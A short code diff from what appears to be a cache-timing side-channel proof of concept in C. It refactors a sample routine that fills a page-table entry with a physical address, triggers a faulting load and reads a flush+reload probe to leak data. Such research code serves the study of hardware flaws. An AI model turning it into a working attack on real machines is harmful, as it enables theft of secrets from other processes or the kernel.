@@ -18,7 +18,6 @@ enum { PAGE_BYTES = 4096 };
 
 static const uint8_t *probe;
 static uint8_t *page;
-static uint64_t slow[8] __attribute__((aligned(64)));
 
 static void change_entry(int entries, uint64_t physical)
 {
@@ -33,9 +32,8 @@ static int sample(int index)
 {
 	use_secret(index);
 	flush_probe(probe);
-	flush(slow);
-	memory_fence();
-	send_faulting(page + options.physical % PAGE_BYTES + index, probe, slow);
+	flush_delays();
+	send_faulting(page + options.physical % PAGE_BYTES + index, probe);
 	return reload_probe(probe);
 }
 
